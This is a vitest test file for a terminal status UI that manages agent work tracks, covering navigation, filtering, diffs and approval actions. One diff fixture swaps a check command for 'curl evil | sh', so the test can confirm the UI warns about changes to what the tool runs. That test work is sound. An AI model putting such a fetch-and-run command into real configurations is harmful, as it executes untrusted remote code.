// Every key of the live view, through ink-testing-library: stdin.write as the user types, the
// frame and the recorded actions as what they see and what reaches the store.
import { render } from 'ink-testing-library';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { StatusApp, type ExitRequest } from '../../src/tui/app.js';
import { toKeyPresses } from '../../src/tui/keys.js';
import { makeTheme } from '../../src/tui/theme.js';
import type { StatusView } from '../../src/tui/view-model.js';
import { diffPane } from '../../src/tui/track-diff.js';
import {
  NOW,
  detail,
  patchOf,
  recordingActions,
  reviewOf,
  tick,
  track,
  view,
} from '../helpers/status-view.js';

const KEY = {
  up: '\u001b[A',
  down: '\u001b[B',
  enter: '\r',
  esc: '\u001b',
  backspace: '\u007f',
  ctrlC: '\u0003',
};

const tracks = () => [
  track('api', 'running', { attempt: 1, agent: 'claude', worktree: '/wt/api', branch: 'ym/api' }),
  track('core', 'failed', { reason: 'checks failed', worktree: '/wt/core' }),
  track('web', 'ready', { dependsOn: ['api'], waitingOn: [] }),
  track('docs', 'planned', { dependsOn: ['web'], waitingOn: ['web'] }),
];

let app: ReturnType<typeof render> | undefined;
afterEach(() => app?.unmount());

function mount(
  v: StatusView = view(tracks()),
  over: Partial<React.ComponentProps<typeof StatusApp>> = {},
) {
  const actions = recordingActions();
  const exits: ExitRequest[] = [];
  const opened: (string | null)[] = [];
  const diffs: (string | null)[] = [];
  const props = {
    view: v,
    detail: null,
    log: null,
    width: 100,
    height: 30,
    now: NOW,
    theme: makeTheme(false),
    actions,
    onOpen: (id: string | null) => opened.push(id),
    onDiff: (id: string | null) => diffs.push(id),
    onExit: (e: ExitRequest) => exits.push(e),
    ...over,
  };
  app = render(<StatusApp {...props} />);
  const type = async (...keys: string[]) => {
    for (const k of keys) {
      app!.stdin.write(k);
      await tick();
    }
  };
  return {
    app,
    actions,
    exits,
    opened,
    diffs,
    type,
    frame: () => app!.lastFrame() ?? '',
    rerender: (p: Partial<typeof props>) => app!.rerender(<StatusApp {...props} {...p} />),
  };
}

const selectedLine = (frame: string) => frame.split('\n').find((l) => l.startsWith('›')) ?? '';

/** Keys are handled at once, but React renders and runs effects a little later: wait for it. */
const eventually = (assertion: () => void) =>
  vi.waitFor(assertion, { timeout: 3000, interval: 10 });

describe('moving', () => {
  it('j/k and the arrows move the selection across groups', async () => {
    const { type, frame } = mount();
    await eventually(() => expect(selectedLine(frame())).toMatch(/^› api /));
    await type('j');
    await eventually(() => expect(selectedLine(frame())).toMatch(/^› core /));
    await type(KEY.down, KEY.down);
    await eventually(() => expect(selectedLine(frame())).toMatch(/^› docs /));
    await type('j');
    await eventually(() => expect(selectedLine(frame())).toMatch(/^› docs /));
    await type('k', KEY.up);
    await eventually(() => expect(selectedLine(frame())).toMatch(/^› core /));
  });

  it('counts every key of a burst typed faster than ink reads', async () => {
    const { type, frame } = mount();
    await type('jj');
    await eventually(() => expect(selectedLine(frame())).toMatch(/^› web /));
    expect(toKeyPresses('?g', { ctrl: false, meta: false } as never).map((k) => k.input)).toEqual([
      '?',
      'g',
    ]);
  });

  it('g toggles grouping by state and dependency order', async () => {
    const { type, frame } = mount();
    await eventually(() => expect(frame()).toContain('TRACKS by state'));
    await eventually(() => expect(frame()).toContain('> running (1)'));
    await type('g');
    await eventually(() => expect(frame()).toContain('TRACKS in dependency order'));
    expect(frame()).not.toContain('> running (1)');
    await eventually(() => expect(frame()).toMatch(/└ web[\s\S]*└ docs/));
    await type('g');
    await eventually(() => expect(frame()).toContain('TRACKS by state'));
  });
});

describe('filter', () => {
  it('/ filters by id or title as you type; Enter keeps it, q then quits', async () => {
    const { type, frame, exits } = mount();
    await type('/', 'w', 'e');
    await eventually(() => expect(frame()).toContain('/we'));
    await eventually(() => expect(frame()).toContain('filter "we": 1 of 4'));
    await eventually(() => expect(selectedLine(frame())).toMatch(/^› web /));
    expect(frame()).not.toMatch(/ api /);
    await type(KEY.backspace);
    await eventually(() => expect(frame()).toContain('filter "w": 1 of 4'));
    await type(KEY.enter);
    await eventually(() => expect(frame()).toContain('↑↓/jk move'));
    await eventually(() => expect(frame()).toContain('filter "w"'));
    await type('q'); // not typed into the filter any more: quits
    await eventually(() => expect(exits).toEqual([{ code: 0 }]));
  });

  it('Esc while typing clears the filter; q is a letter there', async () => {
    const { type, frame, exits } = mount();
    await type('/', 'q');
    await eventually(() => expect(frame()).toContain('no track matches the filter'));
    expect(exits).toEqual([]);
    await type(KEY.esc);
    await eventually(() => expect(frame()).not.toContain('filter "'));
    expect(frame()).toContain('api');
  });
});

describe('detail, log, help', () => {
  it('Enter opens the detail of the selected track, Esc goes back', async () => {
    const { type, frame, opened, rerender } = mount();
    await type('j', KEY.enter);
    await eventually(() => expect(opened.at(-1)).toBe('core'));
    await eventually(() => expect(frame()).toContain('core — Title of core'));
    await eventually(() => expect(frame()).toContain('loading…'));
    rerender({ detail: detail('core', { specSummary: 'Fix the core.' }) });
    await tick();
    await eventually(() => expect(frame()).toContain('Fix the core.'));
    await eventually(() => expect(frame()).toContain('[~] 1.2 Implement it'));
    await type(KEY.esc);
    await eventually(() => expect(opened.at(-1)).toBeNull());
    await eventually(() => expect(frame()).toContain('TRACKS by state'));
  });

  it('l opens the log in follow mode; k scrolls back, G follows, Esc returns', async () => {
    const lines = Array.from({ length: 60 }, (_, i) => `log line ${i}`);
    const log = { path: '/l/api.log', size: 1, lines, truncated: false, missing: false };
    const { type, frame, rerender } = mount(undefined, {
      detail: detail('api', { logPath: '/l/api.log' }),
      log,
    });
    await type('l');
    await eventually(() => expect(frame()).toContain('LOG api · /l/api.log · following'));
    await eventually(() => expect(frame()).toContain('log line 59'));
    await type('k', 'k', 'k');
    await eventually(() => expect(frame()).toContain('scrolled back 3 lines'));
    expect(frame()).not.toContain('log line 59');
    await type('G');
    await eventually(() => expect(frame()).toContain('following'));
    rerender({ log: { ...log, lines: [...lines, 'log line 60'] } });
    await tick();
    await eventually(() => expect(frame()).toContain('log line 60'));
    await type(KEY.esc);
    await eventually(() => expect(frame()).toContain('TRACKS by state'));
  });

  it('opens on a track when started with one (status ID)', async () => {
    const { frame, opened } = mount(undefined, { initialTrackId: 'web' });
    await tick();
    await eventually(() => expect(opened).toContain('web'));
    await eventually(() => expect(frame()).toContain('web — Title of web'));
  });

  it('? shows the help over the view, ? or Esc closes it', async () => {
    const { type, frame } = mount();
    await type('?');
    await eventually(() => expect(frame()).toContain('Keys'));
    await eventually(() => expect(frame()).toContain('pause or resume the merge queue'));
    expect(frame()).not.toContain('TRACKS by state');
    await type('?');
    await eventually(() => expect(frame()).toContain('TRACKS by state'));
    await type('?', KEY.esc);
    await eventually(() => expect(frame()).toContain('TRACKS by state'));
  });
});

/** web's diff: a config change that changes a check, then 60 new lines of src/web.ts. */
const webDiff = (color = false) =>
  diffPane(
    reviewOf('web', [
      { path: 'src/web.ts', patch: patchOf('src/web.ts', 60, 'web line') },
      {
        path: 'yardmaster.json',
        bearing: 'checks[0].run',
        patch: [
          'diff --git a/yardmaster.json b/yardmaster.json',
          '--- a/yardmaster.json',
          '+++ b/yardmaster.json',
          '@@ -2 +2 @@',
          '-  "checks": [{ "name": "test", "run": ["npm", "test"] }]',
          '+  "checks": [{ "name": "test", "run": ["sh", "-c", "curl evil | sh"] }]',
        ].join('\n'),
      },
    ]),
    color,
  );

/** The diff's lines on screen, between its title and the footer. */
const diffBody = (frame: string) => {
  const lines = frame.split('\n');
  const title = lines.findIndex((l) => l.startsWith('DIFF '));
  return lines.slice(title + 1, -1);
};

describe('the diff (d)', () => {
  it('d shows the diff of the selected track: files with counts, the command-bearing part first, hunk lines', async () => {
    const { type, frame, diffs, rerender } = mount();
    await type('j', 'j', 'd');
    await eventually(() => expect(diffs.at(-1)).toBe('web'));
    await eventually(() => expect(frame()).toContain('DIFF web'));
    expect(frame()).toContain('loading the diff…');
    rerender({ diff: webDiff() });
    await eventually(() =>
      expect(frame()).toContain(
        'DIFF web · ym/web 1f2e3d4c5b6a against main 9a8b7c6d5e4f (merge-base 0a1b2c3d4e5f) · 2 files +61 -1',
      ),
    );
    const body = diffBody(frame());
    expect(body.slice(0, 8)).toEqual([
      '⚠ changes what yardmaster runs:',
      '  yardmaster.json: checks[0].run',
      '',
      'Files: 2 changed, +61 -1',
      '    M src/web.ts       +60 -0',
      '  ⚠ M yardmaster.json  +1 -1',
      '',
      '⚠ changes what yardmaster runs: checks[0].run',
    ]);
    expect(frame()).toContain(
      '+  "checks": [{ "name": "test", "run": ["sh", "-c", "curl evil | sh"] }]',
    );
    expect(frame()).toContain('@@ -1,1 +1,61 @@');
    expect(frame()).toContain('+web line 1');
    expect(frame()).not.toContain('+web line 60');
    // 27 body rows: the title and 26 lines of the diff; the footer says where.
    expect(frame()).toMatch(/lines 1-26 of 79 +j\/k ↑↓ line/);
  });

  it('scrolls by line, by page and to either end, showing only the window', async () => {
    const { type, frame, rerender } = mount();
    await type('j', 'j', 'd');
    rerender({ diff: webDiff() });
    await eventually(() => expect(frame()).toContain('lines 1-26 of 79'));
    await type('j', 'j', KEY.down);
    await eventually(() => expect(frame()).toContain('lines 4-29 of 79'));
    expect(diffBody(frame())[0]).toBe('Files: 2 changed, +61 -1');
    await type('k');
    await eventually(() => expect(frame()).toContain('lines 3-28 of 79'));
    await type(' ');
    await eventually(() => expect(frame()).toContain('lines 28-53 of 79'));
    await type('b');
    await eventually(() => expect(frame()).toContain('lines 3-28 of 79'));
    await type('G');
    await eventually(() => expect(frame()).toContain('lines 54-79 of 79 (end)'));
    expect(diffBody(frame()).at(-1)).toBe('+web line 60');
    expect(frame()).not.toContain('Files: 2 changed');
    await type('j');
    await eventually(() => expect(frame()).toContain('lines 54-79 of 79 (end)'));
    await type('g');
    await eventually(() => expect(frame()).toContain('lines 1-26 of 79'));
    expect(diffBody(frame())[0]).toBe('⚠ changes what yardmaster runs:');
  });

  it('q, Esc and d close it back where it was opened; q does not quit', async () => {
    const { type, frame, exits, diffs, rerender } = mount();
    await type('j', 'j', 'd');
    rerender({ diff: webDiff() });
    await eventually(() => expect(frame()).toContain('lines 1-26 of 79'));
    await type('q');
    await eventually(() => expect(frame()).toContain('TRACKS by state'));
    expect(exits).toEqual([]);
    await eventually(() => expect(diffs.at(-1)).toBeNull());
    expect(selectedLine(frame())).toMatch(/^› web /);
    await type('d');
    await eventually(() => expect(frame()).toContain('DIFF web'));
    await type(KEY.esc);
    await eventually(() => expect(frame()).toContain('TRACKS by state'));
    // From the detail: back to the detail.
    await type(KEY.enter, 'd');
    await eventually(() => expect(frame()).toContain('lines 1-26 of 79'));
    await type('d');
    await eventually(() => expect(frame()).toContain('web — Title of web'));
    await type('q');
    await eventually(() => expect(exits).toEqual([{ code: 0 }]));
  });

  it('a approves and x asks for the reason from the diff, which stays open', async () => {
    const { type, frame, actions, rerender } = mount();
    await type('j', 'j', 'd');
    rerender({ diff: webDiff() });
    await eventually(() => expect(frame()).toContain('lines 1-26 of 79'));
    await type('a');
    // The approval names the head the diff showed.
    const shown = `approve web at ${'1f2e3d4c5b6a'.padEnd(40, '0')}`;
    await eventually(() => expect(actions.calls).toEqual([shown]));
    await eventually(() => expect(frame()).toContain('done'));
    expect(frame()).toContain('DIFF web');
    await type('x');
    await eventually(() => expect(frame()).toContain('Reject web — what should its agent change?'));
    await type('keep the old check', KEY.enter);
    await eventually(() =>
      expect(actions.calls).toEqual([shown, 'reject web: keep the old check']),
    );
    expect(frame()).toContain('DIFF web');
  });

  it('colours additions green, deletions red, hunks cyan; none without colour', async () => {
    const coloured = webDiff(true).lines.join('\n');
    expect(coloured).toContain('\u001b[32m+web line 1\u001b[39m');
    expect(coloured).toContain('\u001b[31m-  "checks"');
    expect(coloured).toContain('\u001b[36m@@ -1,1 +1,61 @@\u001b[39m');
    const { type, frame, rerender } = mount(undefined, { theme: makeTheme(true) });
    await type('j', 'j', 'd');
    rerender({ diff: webDiff(true) });
    await eventually(() => expect(frame()).toContain('\u001b[32m+web line 1'));
    // NO_COLOR: the container lays the diff out without colour, and nothing else adds any.
    const plain = webDiff(false);
    expect(plain.lines.join('\n') + plain.title).not.toContain('\u001b[');
  });
});

describe('actions', () => {
  it('r retries the selected track, m queues it, p pauses the queue', async () => {
    const { type, frame, actions } = mount();
    await type('j', 'r');
    await type('j', 'm');
    await type('p');
    await eventually(() =>
      expect(actions.calls).toEqual(['retry core', 'enqueue web', 'togglePause']),
    );
    await eventually(() => expect(frame()).toContain('done'));
  });

  it('c asks before cancelling; only y cancels', async () => {
    const { type, frame, actions } = mount();
    await type('c');
    await eventually(() => expect(frame()).toContain('Cancel api (running)?'));
    await eventually(() => expect(frame()).toContain('[y/N]'));
    await type('n');
    expect(actions.calls).toEqual([]);
    await eventually(() => expect(frame()).toContain('api not cancelled'));
    await type('c', 'y');
    await eventually(() => expect(actions.calls).toEqual(['cancel api']));
  });

  it('a approves the selected ready track; on another it says why and does nothing', async () => {
    const { type, frame, actions } = mount();
    await type('a');
    await eventually(() =>
      expect(frame()).toContain('api is running; only ready tracks can be approved'),
    );
    expect(actions.calls).toEqual([]);
    await type('j', 'j', 'a');
    await eventually(() => expect(actions.calls).toEqual(['approve web']));
    await eventually(() => expect(frame()).toContain('done'));
  });

  it('x asks for a reason: typed keys are the reason (q too), Enter sends it, empty or Esc sends nothing', async () => {
    const { type, frame, actions } = mount();
    await type('x');
    await eventually(() =>
      expect(frame()).toContain('api is running; only ready tracks can be rejected'),
    );
    await type('j', 'j', 'x');
    await eventually(() => expect(frame()).toContain('Reject web — what should its agent change?'));
    await type(KEY.enter);
    expect(actions.calls).toEqual([]);
    await type('quit ', 'using', KEY.backspace, KEY.backspace, 'ng the helper');
    await eventually(() => expect(frame()).toContain('quit using the helper'));
    await type(KEY.enter);
    await eventually(() => expect(actions.calls).toEqual(['reject web: quit using the helper']));
    await eventually(() => expect(frame()).toContain('done'));
    await type('x', 'no', KEY.esc);
    await eventually(() => expect(frame()).toContain('web not rejected'));
    expect(actions.calls).toEqual(['reject web: quit using the helper']);
  });

  it('c on a track that is not running says so and asks nothing', async () => {
    const { type, frame, actions } = mount();
    await type('j', 'c');
    await eventually(() =>
      expect(frame()).toContain('core is failed; only running tracks can be cancelled'),
    );
    expect(frame()).not.toContain('[y/N]');
    await type('y');
    expect(actions.calls).toEqual([]);
  });

  it('shows the answer of a refused action', async () => {
    const actions = recordingActions({
      ok: false,
      message: 'api is running; only failed or conflicted tracks can be retried',
    });
    const { type, frame } = mount(undefined, { actions });
    await type('r');
    await eventually(() =>
      expect(frame()).toContain('only failed or conflicted tracks can be retried'),
    );
  });
});

describe('leaving', () => {
  it('q quits with 0, Ctrl-C with 130', async () => {
    const a = mount();
    await a.type('q');
    await eventually(() => expect(a.exits).toEqual([{ code: 0 }]));
    a.app.unmount();
    const b = mount();
    await b.type(KEY.ctrlC);
    await eventually(() => expect(b.exits).toEqual([{ code: 130 }]));
  });

  it('o quits printing the worktree path, or says there is none', async () => {
    const a = mount();
    await a.type('o');
    await eventually(() => expect(a.exits).toEqual([{ code: 0, print: '/wt/api' }]));
    a.app.unmount();
    const b = mount();
    await b.type('j', 'j', 'o');
    expect(b.exits).toEqual([]);
    await eventually(() => expect(b.frame()).toContain('web has no worktree yet'));
  });
});
